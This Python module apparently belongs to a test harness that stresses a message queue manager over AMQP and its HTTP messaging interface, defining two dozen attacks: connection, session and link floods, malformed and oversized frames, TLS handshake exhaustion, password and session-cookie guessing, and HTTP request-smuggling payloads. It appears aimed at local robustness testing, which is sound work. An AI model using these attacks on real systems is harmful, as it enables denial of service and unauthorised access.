"""What a client may do to a queue manager that means it no good. Each attack is a function of a target and of a pace.

Each is bounded in connections and bytes, and goes on through refusals: a client whose connection is closed comes again.
As a program, `attacks.py KIND TARGET` goes on with one of them, as fast as it can, until its standard input ends, and
then says in a line of JSON how much of it there was."""

import base64
import itertools
import json
import random
import select
import ssl
import struct
import subprocess
import sys
from contextlib import ExitStack, suppress
from dataclasses import asdict, dataclass, field
from threading import Event, Thread

import frames
from frames import RECEIVER, SENDER

# Between two blows of an attack that is paced, seconds: what is tried then is not how much processor time there is.
PAUSE = 0.005
# How long an answer is waited for before the next blow, seconds.
PATIENCE = 0.05
KIB, MIB = 1 << 10, 1 << 20
# Where a credit can't be higher.
ALL_CREDIT = (1 << 32) - 1
# Messages that are begun and never ended: so many in each blow, of so many bytes each, and what each frame of one carries.
UNFINISHED, UNFINISHED_BYTES, UNFINISHED_FRAME_BYTES = 10, 4 * MIB, 64 * KIB
# Passwords are guessed from so many addresses, each of which is locked out by itself.
GUESSERS = 100


@dataclass
class Tally:
    """How much there was of an attack."""

    connections: int = 0
    bytes_sent: int = 0
    bytes_heard: int = 0


@dataclass
class Target:
    """Where to strike: ports of AMQP and HTTP in clear and under TLS, queues that are there for it, and a user to guess
    the password of."""

    port: int
    tls_port: int
    http_port: int
    https_port: int
    queue: str
    full_queue: str
    user: str
    tally: Tally = field(default_factory=Tally)

    def hears(self, said):
        """Takes in what the queue manager says."""
        self.tally.bytes_heard += len(said)

    def dial(self, **where):
        peer = frames.dial(where.pop("port", None) or self.port, **where)
        self.tally.connections += 1
        return peer


class Pace:
    """How quickly blow follows blow, and whether it is enough."""

    def __init__(self, stop, paced=True):
        self.stop, self.paced = stop, paced

    def pause(self, seconds=PAUSE):
        """Between two blows; nothing for attacks that aren't paced. True when it is enough."""
        return self.stop.wait(seconds) if self.paced else self.stop.is_set()

    def wait(self, seconds):
        """What belongs to the attack and is no pace. True when it is enough."""
        return self.stop.wait(seconds)

    def times(self, count):
        """Blows at once, of an attack that isn't paced."""
        return 1 if self.paced else count


class Peers:
    """Connections of one attack; the ones that are hung up on are made anew."""

    def __init__(self, target, stack, count, hello, **where):
        self.target, self.count, self.hello, self.where = target, count, hello, where
        self.peers = []
        stack.callback(self.close)

    def close(self):
        for peer in self.peers:
            peer.close()
        self.peers = []

    def all(self):
        """As many as there may be; one that can't be made now is made later."""
        with suppress(OSError):
            while len(self.peers) < self.count:
                peer = self.target.dial(**self.where)
                self.peers.append(peer)
                if not self.send(peer, self.hello):
                    break
        return list(self.peers)

    def send(self, peer, data):
        """False when the other side takes no more."""
        try:
            peer.sendall(data)
            self.target.tally.bytes_sent += len(data)
            return True
        except OSError:
            self.drop(peer)
            return False

    def drop(self, peer):
        peer.close()
        with suppress(ValueError):
            self.peers.remove(peer)

    def listen(self, patience=0, bytes_max=1 << 16):
        """Takes in what was said, after at most so many seconds, and drops the connections that are over."""
        if patience and self.peers:
            select.select(self.peers, [], [], patience)
        for peer in list(self.peers):
            said = frames.heard(peer, bytes_max)
            if said is None:
                self.drop(peer)
            else:
                self.target.hears(said)


def slow_reader(target, pace):
    """Asks for everything on a queue of large messages, and reads a little of it a second."""
    hello = frames.opening() + frames.begin() + frames.attach("slow", 0, target.full_queue, RECEIVER)
    with ExitStack() as stack:
        peers = Peers(target, stack, 20, hello + frames.flow(0, ALL_CREDIT), receive_bytes=4 * KIB)
        while not pace.wait(0.2):
            peers.all()
            peers.listen(bytes_max=100)


def credit_hoarder(target, pace):
    """Has many links to put by, takes the credit, and puts nothing."""
    links = b"".join(frames.attach(f"hoard-{number}", number, target.queue, SENDER) for number in range(100))
    with ExitStack() as stack:
        peers = Peers(target, stack, 5, frames.opening() + frames.begin() + links)
        while not pace.wait(0.2):
            peers.all()
            peers.listen()


def link_flood(target, pace):
    """Attaches and detaches without end."""
    names = itertools.count()
    with ExitStack() as stack:
        peers = Peers(target, stack, 2, frames.opening() + frames.begin())
        while not pace.pause():
            for peer in peers.all():
                blows = []
                for number in itertools.islice(names, pace.times(50)):
                    handle = number % 200
                    blows.append(frames.attach(f"flood-{number}", handle, target.queue, SENDER))
                    blows.append(frames.performative(frames.DETACH, handle, True))
                peers.send(peer, b"".join(blows))
            peers.listen()


def too_many_links(target, pace):
    """Attaches until it is told to stop, and some more."""
    links = b"".join(frames.attach(f"many-{number}", number, target.queue, SENDER) for number in range(3_000))
    with ExitStack() as stack:
        while not pace.pause(0.2):
            peers = Peers(target, stack, 1, frames.opening() + frames.begin() + links)
            peers.all()
            pace.pause(0.2)
            peers.listen(PATIENCE)
            peers.close()


def session_flood(target, pace):
    """Begins as many sessions as there may be, more than that, and ends them."""
    sessions = b"".join(frames.begin(channel) for channel in range(256))
    ends = b"".join(frames.performative(frames.END, channel=channel) for channel in range(256))
    beyond = frames.begin(300)
    with ExitStack() as stack:
        peers = Peers(target, stack, 2, frames.opening())
        while not pace.pause(PATIENCE):
            for peer in peers.all():
                peers.send(peer, sessions + ends)
            peers.listen()
            for peer in peers.all():
                peers.send(peer, sessions + beyond)
            peers.listen()


def giant_maps(target, pace):
    """Puts messages with maps of very many entries, nested ones, and ones that say they are larger than they are."""
    many = frames.encoded({f"key-{number}": number for number in range(20_000)})
    named = frames.encoded({frames.Symbol(f"key-{number}"): number for number in range(20_000)})
    deep = b"".join(struct.pack(">BII", 0xD0, 9 * (2_000 - level), 1) for level in range(2_000)) + b"\x40"
    lying = struct.pack(">BII", 0xD1, 0x7FFFFFFF, 0x7FFFFFFF) + b"\x40\x40"
    odd = struct.pack(">BII", 0xD1, 5, 1) + b"\x40"
    sections = [b"\x00\x53" + bytes([code]) for code in (0x70, 0x71, 0x72, 0x73, 0x74)]
    payloads = [section + body + frames.data(b"x") for section in sections for body in (many, deep, lying, odd)]
    hello = frames.opening() + frames.begin() + frames.attach("maps", 0, target.queue, SENDER)
    # In a performative, too: the open's properties, where anything may stand.
    fields = [frames.encoded(field) for field in ["giant", *[None] * 8]] + [named]
    opening = frames.AMQP_HEADER + frames.frame(b"\x00\x53\x10" + frames.listed(0xD0, fields))
    with ExitStack() as stack:
        peers = Peers(target, stack, 2, hello)
        turns = {}
        while not pace.pause(0.02):
            for peer in peers.all():
                number = turns[peer] = turns.get(peer, -1) + 1
                peers.send(peer, frames.transfer(0, number, payloads[number % len(payloads)]))
            peers.listen()
            with ExitStack() as once:
                Peers(target, once, 1, opening).all()


def half_open(target, pace):
    """Begins to connect in each way, and says no more."""
    client_hello = bytes.fromhex("16030100c8010000c40303") + bytes(40)
    starts = [b"", b"A", frames.AMQP_HEADER, frames.AMQP_HEADER[:7], frames.SASL_HEADER, frames.opening()[:20]]
    with ExitStack() as stack:
        clear = [Peers(target, stack, 40, start) for start in starts]
        tls = [Peers(target, stack, 40, start, port=target.tls_port) for start in (b"", client_hello, client_hello[:3])]
        while not pace.wait(0.1):
            for peers in clear + tls:
                peers.all()
                peers.listen()


def handshakes(target, pace):
    """Starts TLS, which costs the other side a signature, and hangs up."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while not pace.pause(0.02):
        with suppress(OSError), target.dial(port=target.tls_port) as peer, context.wrap_socket(peer):
            pass


def connection_flood(target, pace):
    """Connects as it should, closes as it should, and comes again."""
    talk = frames.opening() + frames.begin() + frames.performative(frames.CLOSE)
    with ExitStack() as stack:
        while not pace.pause(0.02):
            peers = Peers(target, stack, pace.times(20), talk)
            peers.all()
            peers.listen(PATIENCE)
            peers.close()


def password_guessing(target, pace):
    """Signs in with one wrong password after another, from one address after another."""
    guesses = itertools.count()
    with ExitStack() as stack:
        while not pace.pause(PATIENCE):
            guess = next(guesses)
            peers = Peers(target, stack, 4, frames.plain(target.user, f"guess-{guess}"), address=f"127.0.3.{guess % GUESSERS + 1}")
            peers.all()
            pace.pause(PATIENCE)
            # The mechanisms come at once; what the answer to the guess is comes after them.
            peers.listen(PATIENCE)
            peers.listen(PATIENCE)
            peers.close()


def cut_frames(target, pace):
    """Ends a good conversation after each of its bytes, and sends another one byte by byte."""
    talk = frames.opening() + frames.begin() + frames.attach("cut", 0, target.queue, SENDER)
    talk += frames.transfer(0, 0, frames.data(b"x" * 20), settled=True) + frames.performative(frames.CLOSE)
    places = itertools.cycle(range(1, len(talk)))
    with ExitStack() as stack:
        slow = Peers(target, stack, 5, b"")
        said = {}
        while not pace.pause():
            with ExitStack() as once:
                Peers(target, once, 1, talk[: next(places)]).all()
            for peer in slow.all():
                at = said[peer] = said.get(peer, -1) + 1
                if at >= len(talk):
                    slow.drop(peer)
                    said.pop(peer)
                else:
                    slow.send(peer, talk[at : at + 1])
            slow.listen()


def huge_frames(target, pace):
    """Announces frames of sizes that can't be, and of the largest that may be, and sends a little of them."""
    sizes = [0, 1, 7, 8, 0x7FFFFFFF, 0xFFFFFFFF, MIB, MIB + 1, 512]
    heads = [struct.pack(">IBBH", size, offset, 0, 0) for size in sizes for offset in (0, 1, 2, 255)]
    turns = itertools.cycle(heads)
    with ExitStack() as stack:
        while not pace.pause(PATIENCE):
            peers = Peers(target, stack, 10, frames.opening() + next(turns) + bytes(100))
            peers.all()
            pace.pause(0.02)
            peers.listen(PATIENCE)
            peers.close()


def garbage(target, pace):
    """Sends bytes without sense: at once, after the header, and as the body of frames."""
    chance = random.Random(1)
    with ExitStack() as stack:
        while not pace.pause(0.02):
            noise = chance.randbytes(chance.randrange(1, 4 * KIB))
            starts = [noise, frames.AMQP_HEADER + noise, frames.opening() + frames.begin() + frames.frame(noise)]
            for port in (target.port, target.tls_port):
                peers = Peers(target, stack, 1, chance.choice(starts), port=port)
                peers.all()
                peers.listen()
                peers.close()


def never_settling(target, pace):
    """Gets all it can, asks for more, and settles nothing; comes again when there is no more."""
    hello = frames.opening() + frames.begin() + frames.attach("never", 0, target.full_queue, RECEIVER)
    with ExitStack() as stack:
        peers = Peers(target, stack, 5, hello + frames.flow(0, ALL_CREDIT))
        while not pace.pause():
            peers.all()
            heard = target.tally.bytes_heard
            peers.listen(PATIENCE, bytes_max=MIB)
            if heard == target.tally.bytes_heard and not pace.paced:
                peers.close()


def unfinished_messages(target, pace):
    """Begins large messages on many connections, and never ends them."""
    hello = frames.opening() + frames.begin() + frames.attach("unfinished", 0, target.queue, SENDER)
    part = frames.transfer(0, 0, frames.data(bytes(2 * UNFINISHED_BYTES))[:UNFINISHED_FRAME_BYTES], more=True)
    with ExitStack() as stack:
        peers = Peers(target, stack, UNFINISHED * pace.times(3), hello)
        sent = {}
        while not pace.pause(PATIENCE):
            begun = [peer for peer in peers.all() if sent.get(peer, 0) < UNFINISHED_BYTES]
            for peer in begun:
                if peers.send(peer, part):
                    sent[peer] = sent.get(peer, 0) + UNFINISHED_FRAME_BYTES
            peers.listen(0 if begun else PATIENCE)
            sent = {peer: count for peer, count in sent.items() if peer in peers.peers}


def flood(target, pace):
    """Puts as much as it is let, settled and whatever its credit."""
    hello = frames.opening() + frames.begin() + frames.attach("flood", 0, target.queue, SENDER)
    body = frames.data(bytes(2 * KIB))
    with ExitStack() as stack:
        peers = Peers(target, stack, 2, hello)
        turns = {}
        while not pace.pause():
            for peer in peers.all():
                number = turns[peer] = turns.get(peer, 0) + 20
                peers.send(peer, b"".join(frames.transfer(0, number + n, body, settled=True) for n in range(20)))
            peers.listen()


def request(target, method, what, *lines, queue=None, body=b""):
    """A request of the messaging interface, as any client may send it."""
    path = f"/ibmmq/rest/v3/messaging/qmgr/BULLA/queue/{queue or target.queue}/{what}"
    head = [f"{method} {path} HTTP/1.1", "Host: localhost", "ibm-mq-rest-csrf-token: ", *lines]
    if body:
        head += ["Content-Type: text/plain", f"Content-Length: {len(body)}"]
    return "\r\n".join([*head, "", ""]).encode() + body


def http_slow(target, pace):
    """Sends heads and bodies a byte at a time."""
    head = request(target, "GET", "message")
    body = request(target, "POST", "message", "Content-Type: text/plain", f"Content-Length: {MIB}")
    with ExitStack() as stack:
        heads = Peers(target, stack, 50, head[:-4], port=target.http_port)
        bodies = Peers(target, stack, 50, body, port=target.http_port)
        while not pace.wait(0.1):
            for peers, piece in ((heads, b"x"), (bodies, b"x")):
                for peer in peers.all():
                    peers.send(peer, piece)
                peers.listen()


def http_unread(target, pace):
    """Asks for large messages, one request behind the other, and reads a little of the answers."""
    asked = request(target, "GET", "message", queue=target.full_queue) * 50
    with ExitStack() as stack:
        peers = Peers(target, stack, 20, asked, port=target.http_port, receive_bytes=4 * KIB)
        while not pace.wait(0.2):
            peers.all()
            peers.listen(bytes_max=100)


def http_requests(target, pace):
    """Puts, lists and gets without end, several requests at once, and under names that are none."""
    puts = request(target, "POST", "message", body=bytes(2 * KIB)) * 10
    others = request(target, "DELETE", "message") + request(target, "GET", "messagelist") + request(target, "GET", "none")
    with ExitStack() as stack:
        peers = Peers(target, stack, 5, b"", port=target.http_port)
        while not pace.pause():
            for peer in peers.all():
                peers.send(peer, puts + others)
            peers.listen(PATIENCE)


def http_keys(target, pace):
    """Puts, publishes and gets under idempotency keys: ever new ones, the same again, too long ones and two at once."""
    numbers = itertools.count()
    with ExitStack() as stack:
        peers = Peers(target, stack, 5, b"", port=target.http_port)
        while not pace.pause():
            for peer in peers.all():
                key = f"Idempotency-Key: {next(numbers):0128}"
                put = request(target, "POST", "message", key, body=b"x")
                said = [put, put, request(target, "POST", "message", key, body=b"y"), request(target, "DELETE", "message", key)]
                said += [put.replace(b"/queue/", b"/topic/"), request(target, "POST", "message", key + "x", body=b"x")]
                peers.send(peer, b"".join(said) + request(target, "DELETE", "message", key, key))
            peers.listen(PATIENCE)


def http_handshakes(target, pace):
    """Starts TLS and asks for nothing: some connections stay, others hang up."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with ExitStack() as stack:
        idle = Peers(target, stack, 50, b"", port=target.https_port)
        while not pace.pause(0.02):
            idle.all()
            idle.listen()
            with suppress(OSError), target.dial(port=target.https_port) as peer, context.wrap_socket(peer):
                pass


def http_renegotiation(target, pace):
    """Asks for new handshakes within a connection, which the queue manager refuses; the next connection asks again."""
    command = ["openssl", "s_client", "-tls1_2", "-connect", f"127.0.0.1:{target.https_port}"]
    quiet = {"stdin": subprocess.PIPE, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    asks = b"R\n"
    while not pace.pause(0.02):
        # Its end may come while it is written to.
        with suppress(OSError), subprocess.Popen(command, bufsize=0, **quiet) as client:
            target.tally.connections += 1
            try:
                while client.poll() is None and not pace.wait(0.05):
                    client.stdin.write(asks)
                    target.tally.bytes_sent += len(asks)
            finally:
                client.kill()


def http_cookies(target, pace):
    """Guesses cookies of log-ins, sends lines of cookies that are none, and guesses the password of a log-in."""
    chance = random.Random(3)

    def asked(cookie):
        return request(target, "DELETE", "message", f"Cookie: {cookie}")

    guess = json.dumps({"username": target.user, "password": "a guess"}).encode()
    head = ["POST /ibmmq/rest/v3/login HTTP/1.1", "Host: localhost", "Content-Type: application/json"]
    log_in = "\r\n".join([*head, f"Content-Length: {len(guess)}", "", ""]).encode() + guess
    odd = [
        asked("LtpaToken2=x; " * 500),
        asked(";" * 4 * KIB),
        asked("LtpaToken2=" + "A" * 6 * KIB),
        request(target, "GET", "message", *["Cookie: LtpaToken2=x"] * 50),
        log_in,
    ]
    with ExitStack() as stack:
        while not pace.pause(0.02):
            token = base64.urlsafe_b64encode(chance.randbytes(32)).decode().rstrip("=")
            peers = Peers(target, stack, 1, chance.choice([*odd, asked(f"LtpaToken2={token}")]), port=target.http_port)
            peers.all()
            peers.listen(PATIENCE)
            peers.close()


def http_garbage(target, pace):
    """Sends what two servers could read differently, what is too much, and bytes without sense."""
    chance = random.Random(2)
    chunked = "Transfer-Encoding: chunked"
    odd = [
        request(target, "POST", "message", "Content-Length: 5", chunked) + b"0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
        request(target, "POST", "message", "Content-Length: 5", "Content-Length: 6") + b"12345",
        request(target, "POST", "message", chunked) + b"FFFFFFFFFFFFFFFF\r\nx",
        request(target, "GET", "message", *[f"X-{number}: {'y' * 100}" for number in range(1_000)]),
        request(target, "GET", "message", "X: " + "y" * MIB),
        request(target, "GET", "x" * 64 * KIB),
        b"GET / HTTP/2.0\r\n\r\n",
    ]
    with ExitStack() as stack:
        while not pace.pause(0.02):
            noise = chance.randbytes(chance.randrange(1, 4 * KIB))
            for port in (target.http_port, target.https_port):
                peers = Peers(target, stack, 1, chance.choice([*odd, noise]), port=port)
                peers.all()
                peers.listen(PATIENCE)
                peers.close()


ATTACKS = [
    slow_reader,
    credit_hoarder,
    link_flood,
    too_many_links,
    session_flood,
    giant_maps,
    half_open,
    handshakes,
    connection_flood,
    password_guessing,
    cut_frames,
    huge_frames,
    garbage,
    never_settling,
    unfinished_messages,
    flood,
    http_slow,
    http_unread,
    http_requests,
    http_keys,
    http_handshakes,
    http_renegotiation,
    http_garbage,
    http_cookies,
]


class UnderAttack:
    """While it lasts, so many attacks are under way, paced, in threads of this program."""

    def __init__(self, target, attacks):
        self.target, self.stop = target, Event()
        self.failures = []
        self.threads = [Thread(target=self._strike, args=(attack,), daemon=True) for attack in attacks]

    def _strike(self, attack):
        try:
            attack(self.target, Pace(self.stop))
        except Exception as error:  # an attack that breaks tries nothing: the caller must know
            self.failures.append(f"{attack.__name__}: {error!r}")

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.stop.set()
        for thread in self.threads:
            thread.join(60)


def main():
    kind, where = sys.argv[1:]
    (attack,) = [attack for attack in ATTACKS if attack.__name__ == kind]
    target, stop = Target(**json.loads(where)), Event()
    # The program that started this ends it, also by not being there any more.
    Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    print("ready", flush=True)
    attack(target, Pace(stop, paced=False))
    print(json.dumps(asdict(target.tally)))


if __name__ == "__main__":
    main()
